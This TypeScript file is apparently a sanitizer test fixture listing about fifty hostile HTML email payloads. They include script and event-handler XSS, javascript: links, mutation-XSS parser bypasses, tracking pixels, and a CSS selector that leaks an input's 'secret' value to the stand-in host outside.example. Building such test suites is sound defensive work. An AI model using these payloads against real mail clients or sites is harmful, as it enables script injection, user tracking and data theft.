/** A mail made to do what a mail must not. */
export type HostileMail = {
  readonly name: string
  readonly html: string
  /** Why a browser of today does nothing with it even where nothing is taken out. */
  readonly harmless?: string
}

/** Where the mails try to get to, and what they call to show that they ran. */
export const outside = 'http://outside.example'
const ran = 'ran()'
const ask = (path: string) => `${outside}/${path}`
const old = 'only browsers of the past ran it'
const asked = 'it waits for somebody to press it'
const again = 'it runs where a reader writes it out wrongly and a browser reads that'

export const hostileMails: readonly HostileMail[] = [
  { name: 'a script', html: `<p>Hello<script>${ran}</script>` },
  { name: 'a script from elsewhere', html: `<script src="${ask('a.js')}"></script>` },
  {
    name: 'a script whose end is hidden',
    html: `<scr<script>x</script>ipt>${ran}</scr</script>ipt><img src=x onerror=${ran}>`,
  },
  { name: 'a handler of a picture', html: `<img src="data:," onerror="${ran}">` },
  { name: 'a handler without quotes, in capitals', html: `<IMG SRC=x: OnErRoR=${ran}>` },
  { name: 'a handler after a slash', html: `<img/src="x:"/onerror=${ran}//>` },
  { name: 'a handler of the body', html: `<body onload="${ran}"><p>Hello` },
  {
    name: 'a handler that an animation sets off',
    html: `<style>@keyframes x{}</style><b style="animation:x" onanimationstart="${ran}">a</b>`,
  },
  { name: 'a handler that focus sets off', html: `<a id=x tabindex=1 autofocus onfocus="${ran}">a</a>` },
  { name: 'a handler of details', html: `<details open ontoggle="${ran}">a</details>` },
  { name: 'SVG with a script', html: `<svg><script>${ran}</script></svg>` },
  { name: 'SVG with a handler', html: `<svg onload="${ran}"></svg>` },
  { name: 'SVG that animates a link', html: `<svg><animate onbegin="${ran}" attributeName=x dur=1s></svg>` },
  { name: 'SVG with a picture', html: `<svg><image href="${ask('svg.png')}"/></svg>` },
  { name: 'MathML with a link', html: `<math href="javascript:${ran}">a</math>`, harmless: asked },
  { name: 'a link that is a script', html: `<a href="javascript:${ran}">a</a>`, harmless: asked },
  {
    name: 'a link that is a script behind tabs and entities',
    html: `<a href="&#x6A;ava&Tab;scr&NewLine;ipt&colon;${ran}">a</a>`,
    harmless: asked,
  },
  { name: 'a link to data', html: `<a href="data:text/html,<script>${ran}</script>">a</a>`, harmless: asked },
  { name: 'a frame that is a script', html: `<iframe src="javascript:parent.${ran}"></iframe>` },
  {
    name: 'a frame with a document of its own',
    html: `<iframe srcdoc="&lt;script&gt;parent.${ran}&lt;/script&gt;"></iframe>`,
  },
  { name: 'a frame from elsewhere', html: `<iframe src="${ask('frame')}"></iframe>` },
  { name: 'an object', html: `<object data="${ask('object')}"></object><embed src="${ask('embed')}">` },
  { name: 'another base', html: `<base href="${outside}/"><img src="base.png">` },
  {
    name: 'a page that moves on by itself',
    html: `<meta http-equiv="refresh" content="0;url=${ask('refresh')}">`,
  },
  { name: 'a picture', html: `<img src="${ask('open.gif')}" width=1 height=1>` },
  {
    name: 'a picture in several sizes',
    html: `<img srcset="${ask('2x.png')} 1x"><picture><source srcset="${ask('s.png')}"><img></picture>`,
  },
  { name: 'a picture without a scheme', html: '<img src="//outside.example/open.gif">' },
  {
    name: 'a background',
    html: `<table background="${ask('back.png')}"><tr><td background="${ask('cell.png')}">a</table>`,
  },
  { name: 'a background in a style', html: `<p style="background:url(${ask('style.png')})">a</p>` },
  {
    name: 'a background whose name is escaped',
    html: `<p style="background-image:\\75 rl('${ask('escaped.png')}')">a</p>`,
  },
  { name: 'a list with a picture', html: `<ul style="list-style-image:url(${ask('list.png')})"><li>a</ul>` },
  {
    name: 'a style sheet that reads attributes',
    html: `<style>input[value^="s"]{background:url(${ask('s')})}</style><input value="secret">`,
  },
  { name: 'a style sheet that brings another', html: `<style>@import url("${ask('more.css')}");</style>` },
  {
    name: 'a style sheet with a font',
    html: `<style>@font-face{font-family:x;src:url(${ask('font')})}p{font-family:x}</style><p>a`,
  },
  {
    name: 'a style sheet from elsewhere',
    html: `<link rel="stylesheet" href="${ask('sheet.css')}"><link rel="prefetch" href="${ask('pre')}">`,
  },
  { name: 'an expression in a style', html: `<p style="width:expression(${ran})">a</p>`, harmless: old },
  {
    name: 'a behaviour in a style',
    html: `<p style="behavior:url(${ask('x.htc')});-moz-binding:url(${ask('x.xml')})">a</p>`,
    harmless: old,
  },
  {
    name: 'film and sound',
    html: `<video src="${ask('film')}" poster="${ask('poster')}"></video><audio src="${ask('sound')}" autoplay></audio>`,
  },
  {
    name: 'a form',
    html: `<form action="${ask('form')}"><input name=a><button>Sign in</button></form>`,
    harmless: asked,
  },
  { name: 'a picture that is a button', html: `<input type="image" src="${ask('button.png')}">` },
  {
    name: 'noscript that ends in an attribute',
    html: `<noscript><p title="</noscript><img src=x: onerror=${ran}>">`,
  },
  {
    name: 'MathML that hides an end',
    html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${ran}&gt;">`,
    harmless: again,
  },
  { name: 'SVG that hides an end', html: `<svg></p><style><a id="</style><img src=x: onerror=${ran}>">` },
  { name: 'a comment that is none', html: `<!--><img src=x: onerror=${ran}>-->` },
  { name: 'a comment that ends otherwise', html: `<!-- a --!><img src=x: onerror=${ran}>` },
  {
    name: 'a template with a root of its own',
    html: `<div><template shadowrootmode=open><img src=x: onerror=${ran}></template></div>`,
  },
  {
    name: 'text that is not read as such',
    html: `<textarea></textarea ><img src=x: onerror=${ran}></textarea>`,
  },
  { name: 'a section of XML', html: `<![CDATA[><img src=x: onerror=${ran}>]]>` },
  {
    name: 'the words of a picture',
    html: `<img alt="</span><script>${ran}</script><img src=x: onerror=${ran}>" src="${ask('alt.png')}">`,
  },
  {
    name: 'an attribute that ends its element',
    html: `<p title="a"onmouseover=x id='"><img src=x: onerror=${ran}>'><b></b><img src=x: onerror=${ran}>`,
  },
  { name: 'a document after its end', html: `</body></html><script>${ran}</script>` },
  {
    name: 'a popover over everything',
    html: `<div popover id=over style="position:fixed;inset:0" onbeforetoggle="${ran}">a</div><img src=x: onerror="over.showPopover()">`,
  },
  { name: 'an old page in frames', html: `<frameset><frame src="${ask('old-frame')}"></frameset>` },
  { name: 'a ping', html: `<a href="https://example.com" ping="${ask('ping')}">a</a>`, harmless: asked },
]
